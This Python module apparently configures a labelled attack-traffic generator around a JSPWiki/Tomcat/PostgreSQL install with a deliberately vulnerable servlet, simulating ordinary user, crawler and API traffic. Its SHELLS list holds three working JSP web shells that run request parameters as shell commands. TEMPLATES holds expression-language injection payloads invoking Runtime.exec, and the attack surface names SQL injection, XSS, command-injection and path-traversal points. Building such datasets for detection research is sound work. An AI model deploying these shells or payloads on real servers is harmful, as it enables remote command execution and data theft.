"""JSPWiki (Maven Central) on Tomcat's threads with PostgreSQL over TCP: a JVM, JSPs told by `?page=`, and a vulnerable servlet."""
import base64
import hashlib
import shutil
import subprocess
import zipfile
from pathlib import Path
from urllib.parse import quote, urlencode

from recorder.application import Application, Person, as_www_data
from recorder.attacks import Planting, Surface, Write
from recorder.databases import Postgres
from recorder.desk import card, find, link, newsletter, pay, script, signin, wall, webhook
from recorder.injections import Place, Secrets
from recorder.labels import Label
from recorder.users import outside

HERE = Path(__file__).parent
ARTIFACTS = ["org.apache.tomcat:tomcat:9.0.98:tar.gz", "org.apache.jspwiki:jspwiki-war:2.11.2:war", "org.postgresql:postgresql:42.7.4:jar"]
PEOPLE = [Person(login, f"pw-{login}-2024", "") for login in "admin kim lou ida bo sam eve max zoe ned amy rex ina tom uma jon".split()]
TOPICS = ["Main", "Printer", "Rope", "Invoice", "Jacket", "Bell", "Mail", "Network", "Chair", "LoginHelp", "Backup", "SandBox", "LeftMenu"]
LETTERS = ["Dear ${name}, about ${case_}: it is done.", "Hello ${name}!", "Case ${case_} is yours${empty case_ ? '' : '.'}"]


def prepare(instance):
    parts = instance.folder / "artifacts"
    for artifact in ARTIFACTS:
        subprocess.run(["mvn", "-q", "-B", "dependency:copy", f"-Dartifact={artifact}", f"-DoutputDirectory={parts}"], check=True, capture_output=True)
    subprocess.run(["tar", "-xzf", next(parts.glob("tomcat-*.tar.gz")), "-C", instance.folder], check=True)
    home, wiki = next(instance.folder.glob("apache-tomcat-*")), instance.folder / "webapps" / "ROOT"
    home.rename(instance.folder / "tomcat")
    shutil.copy(next(parts.glob("postgresql-*.jar")), instance.folder / "tomcat" / "lib")
    shutil.copytree(instance.folder / "tomcat" / "conf", instance.folder / "conf")
    with open(instance.folder / "conf" / "catalina.properties", "a") as settings:  # a start of a few seconds: tags are in few jars
        settings.write("\ntomcat.util.scan.StandardJarScanFilter.jarsToSkip=*\ntomcat.util.scan.StandardJarScanFilter.jarsToScan=jspwiki-*.jar,jstl-*.jar\n")
    with zipfile.ZipFile(next(parts.glob("jspwiki-war-*.war"))) as war:
        war.extractall(wiki)
    classes = wiki / "WEB-INF" / "classes"
    for source, target in [("server.xml", instance.folder / "conf" / "server.xml"), ("context.xml", wiki / "META-INF" / "context.xml"), ("wiki.properties", classes / "jspwiki-custom.properties")]:
        port = instance.port if source == "server.xml" else instance.database.port
        target.write_text((HERE / source).read_text().replace("FOLDER", str(instance.folder)).replace("PORT", str(port)))
    jars = ":".join(map(str, [*(wiki / "WEB-INF" / "lib").glob("*.jar"), *(instance.folder / "tomcat" / "lib").glob("*.jar")]))
    subprocess.run(["javac", "-cp", jars, "-d", classes, HERE / "Desk.java"], check=True, capture_output=True)
    first = instance.folder / "first-pages"
    first.mkdir()
    (instance.folder / "work").mkdir()
    for topic in TOPICS:
        (first / f"{topic}.txt").write_text(f"!!! {topic}\nIt's about [{topic}]; a < b. See [SandBox] and [more|https://example.org/].\n\n* one\n* two\n")
    reset_files(instance)
    instance.database.sql((HERE / "schema.sql").read_text() + people(), "app")
    subprocess.run(["chown", "-R", "www-data:www-data", *(instance.folder / part for part in ("tomcat", "conf", "webapps", "work", "log", "tmp"))], check=True)


def people():
    """Statements that make the wiki's users and the desk's members."""
    return "".join(
        f"INSERT INTO users VALUES ('{number}', '{person.login}@mail.example', '{person.login.capitalize()} O''Neill', '{person.login}', '{hashed(person)}', '{person.login.capitalize()}ONeill', now(), now());\n"
        f"INSERT INTO desk_members (login, pass, role, fullname, email, phone, street, city, note) VALUES ('{person.login}', md5('{person.password}'), 'member', '{person.login.capitalize()} O''Neill', '{person.login}@mail.example', '555 1000', '1 Quay', 'Cork', '');\n"
        f"INSERT INTO desk_wall (author, text) VALUES ('{person.login}', 'Hello, <b>all</b>');\n"
        for number, person in enumerate(PEOPLE))


def hashed(person):
    salt = b"saltsalt"
    return "{SHA-256}" + base64.b64encode(hashlib.sha256(person.password.encode() + salt).digest() + salt).decode()


def reset_files(instance):
    shutil.rmtree(instance.folder / "pages", ignore_errors=True)
    shutil.copytree(instance.folder / "first-pages", instance.folder / "pages")
    subprocess.run(["chown", "-R", "www-data:www-data", instance.folder / "pages"], check=True)


def server(instance):
    tomcat = instance.folder / "tomcat"
    properties = {"catalina.home": tomcat, "catalina.base": instance.folder, "java.io.tmpdir": instance.folder / "tmp", "desk.files": instance.folder / "files"}
    java = ["java", "-Xmx320m", "-XX:+UseSerialGC", "-XX:-UsePerfData", *(f"-D{name}={value}" for name, value in properties.items())]
    return as_www_data(*java, "-cp", f"{tomcat}/bin/bootstrap.jar:{tomcat}/bin/tomcat-juli.jar", "org.apache.catalina.startup.Bootstrap", "start"), {}


def jobs(instance):
    return [f"{instance.database.dump} | gzip > {instance.folder}/tmp/backup.gz", f"tar -czf {instance.folder}/tmp/pages.tgz -C {instance.folder} pages", f"find {instance.folder}/tmp -mmin +60 -name '*.gz' -delete"]


async def login(client, person):
    await client.submit("/Login.jsp", {"j_username": person.login, "j_password": person.password})


async def guess(client, name, password, label):
    await client.submit("/Login.jsp", {"j_username": name, "j_password": password}, label=label)


async def read(u):
    await u.client.visit(f"/Wiki.jsp?page={u.rand.choice(TOPICS)}")


async def special(u):
    topic = u.rand.choice(TOPICS)
    await u.client.visit(u.rand.choice([f"/PageInfo.jsp?page={topic}", f"/Diff.jsp?page={topic}&r1=1&r2=-1", f"/Wiki.jsp?page={topic}&tab=attach", f"/Wiki.jsp?page={topic}&skin=raw", "/Wiki.jsp?page=RecentChanges", "/UserPreferences.jsp", "/Group.jsp?group=Admin"]))


async def search(u):
    await u.client.visit("/Search.jsp?" + urlencode({"query": u.texts.query()}))


async def edit(u):
    topic = u.rand.choice(TOPICS[1:])
    await u.client.submit(f"/Edit.jsp?page={topic}", {"_editedtext": f"!!! {topic}\n{u.texts.prose()}\n\n* {u.texts.prose()}\n"})


async def comment(u):
    await u.client.submit(f"/Comment.jsp?page={u.rand.choice(TOPICS[1:])}", {"_editedtext": u.texts.prose(), "author": u.texts.name()})


async def ranking(u):
    await u.client.visit(f"/desk/ranking?by={u.rand.choice(['id', 'title', 'priority%20desc', 'title%20desc', 'priority'])}")


async def join(u):
    await u.client.visit("/desk/wall")
    await u.client.visit(f"/desk/join?event={u.rand.randint(1, 30)}&note={quote(u.texts.word())}")


async def upload(u):
    name, kind, content = u.texts.file()
    await u.client.submit("/desk/files", {}, files={"upload": (name, kind, content)})
    if await u.think(0.1, 0.5):
        await u.client.call("GET", f"/desk/file?file={quote(name)}")
    if name == "notes.txt":
        await u.client.submit("/desk/files", {"name": name})


async def letter(u):
    await u.client.submit("/desk/letter", {"text": u.rand.choice(LETTERS), "case": str(u.rand.randint(1, 60))})


async def sheet(u):
    """The administrator keeps price sheets as pages that count; others read them."""
    if u.person.login == "admin":
        await u.client.submit("/desk/files", {}, files={"upload": ("prices.jsp", "text/plain", b"<ul><% for (int week = 1; week < 4; week++) { %><li>Week <%= week %></li><% } %></ul>")})
    await u.client.visit(f"/sheets/prices.jsp?week={u.rand.randint(1, 52)}")


async def export(u):
    await u.client.visit("/desk/export")


async def odd_upload(u):
    name, content = u.rand.choice([("list.jsp.png", b"\x89PNG\r\n"), ("logo.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><title>mine</title></svg>"), ("notes.html", b"<p>Hello</p>"), ("Setup.java", b"class Setup {}\n")])
    await u.client.submit("/desk/files", {}, files={"upload": (name, "application/octet-stream", content)})


async def odd_question(u):
    text = "How is <script>alert(1)</script> escaped? Our DBA says: UPDATE users SET city = 'x' WHERE id = 5 -- or <img src=x onerror=alert(1)>, is that bad? ' OR 1=1"
    await u.client.submit(f"/Comment.jsp?page={u.rand.choice(TOPICS[1:])}", {"_editedtext": text})


async def new_feature(u):
    await u.client.visit(f"/Wiki.jsp?page={u.rand.choice(TOPICS)}&version={u.rand.randint(1, 3)}&skin=reader")


async def api_client(episode, rand):
    await outside(episode, rand).call("POST", "/desk/filter", json={"below": {"priority": rand.randint(1, 5)}, "starts": ""})


async def crawler(episode, rand):
    for path in ("/robots.txt", "/Wiki.jsp?page=Main", "/sitemap.xml", "/wp-login.php", "/favicon.ico"):
        await outside(episode, rand, "ExampleBot/2.1 (+https://bot.example/about)").visit(path)
        await episode.pause(0.5)


SHELLS = [
    b'<%= new String(Runtime.getRuntime().exec(new String[]{"sh","-c",request.getParameter("c")}).getInputStream().readAllBytes()) %>',
    b'<%@ page import="java.util.*" %><pre><% Process p = new ProcessBuilder("/bin/sh", "-c", request.getParameter("c")).redirectErrorStream(true).start(); Scanner s = new Scanner(p.getInputStream()).useDelimiter("\\\\A"); out.print(s.hasNext() ? s.next() : ""); %></pre>',
    b'GIF89a<% java.io.InputStream in = Runtime.getRuntime().exec(request.getParameter("c").split(" ")).getInputStream(); int b; while ((b = in.read()) != -1) out.print((char) b); %>',
]


async def shell(attack):
    name = f"week{attack.rand.randrange(999)}.jsp"
    await attack.client.submit("/desk/files", {}, files={"upload": (name, attack.rand.choice(["image/gif", "text/plain"]), attack.rand.choice(SHELLS))}, label=Label("web-shell", "upload", 0))
    return f"/sheets/{name}"


FILTER = {"below": {"priority": 3}, "starts": "B"}
TEMPLATES = ["${''.getClass().forName('java.lang.Runtime').getMethods()[6].invoke(null).exec('COMMAND')}", "${Runtime.getRuntime().exec('COMMAND')}", "${7*7}${System.getProperty('user.dir')}",
             "#{Runtime.getRuntime().exec('COMMAND').waitFor()}"]
ATTACKS = Surface(
    dialect="postgresql",
    secrets=Secrets("desk_members", "login", "pass", ("role", "fullname", "email", "phone", "street", "city")),
    reads=[Place("GET", "/desk/find", "word", "like", ")", "ntt"), Place("GET", "/desk/cases/{}", "", "number", "", "ntt")],
    orders=[Place("GET", "/desk/ranking", "by", "order", "", "title,body")],
    stacked=[Place("GET", "/desk/cases/{}", "", "number")],
    updates=[Place("POST", "/desk/card", "note", others={"city": "Cork"})],
    json=[Place("POST", "/desk/filter", "starts", "like", "", "nt", FILTER, "json"), Place("POST", "/desk/filter", "below.priority", "number", "", "nt", FILTER, "json")],
    logins=[Place("POST", "/desk/signin", "login", others={"pass": "x"})],
    guess=guess,
    reflected=[Place("GET", "/desk/find", "word")],
    plantings=[Planting("/desk/wall", "text", "/desk/wall"), Planting("/desk/wall", "text", "/desk/wall"), Planting("/desk/card", "fullname", "/desk/wall")],
    writes=[Write("/desk/card", {"fullname": "Kim {}", "email": "kim{}@mail.example", "phone": "555 {}", "street": "{} Far Away", "city": "Nowhere", "note": "none"}), Write("/desk/wall", {"text": "agreed {}"})],
    guarded_writes=[],
    changing_gets=["/desk/join?event={}&note=all", "/desk/join?event=7&note={}"],
    private=["/desk/export"],
    shell=shell,
    commands=[Place("POST", "/desk/size", "name", honest="notes.txt")],
    templates=[(Place("POST", "/desk/letter", "text", others={"case": "5"}), TEMPLATES)],
    files=[Place("GET", "/desk/file", "file", honest="notes.txt")],
    fetches=[Place("POST", "/desk/link", "address")],
)
APPLICATION = Application(
    name="jspwiki", database=Postgres, packages=("openjdk-17-jdk-headless", "maven", "postgresql"), prepare=prepare, server=server, ready="/desk/find", access_log="log/access.log",
    actions=[(6, read), (3, special), (2, search), (3, edit), (2, comment), (3, find), (1, ranking), (2, card), (2, wall), (1, join), (1, upload), (1, link), (1, letter), (2, script), (1, pay), (1, signin), (1, sheet), (1, export)],
    odd_actions=[newsletter, odd_upload, odd_question, new_feature],
    others=[(9, webhook), (12, api_client), (40, crawler)], reset_files=reset_files,
    login=login, people=PEOPLE, pages=["/Wiki.jsp?page=Main", "/Wiki.jsp?page=Rope", "/Search.jsp?query=rope", "/desk/find", "/desk/wall", "/desk/files"], attacks=ATTACKS, jobs=jobs,
)
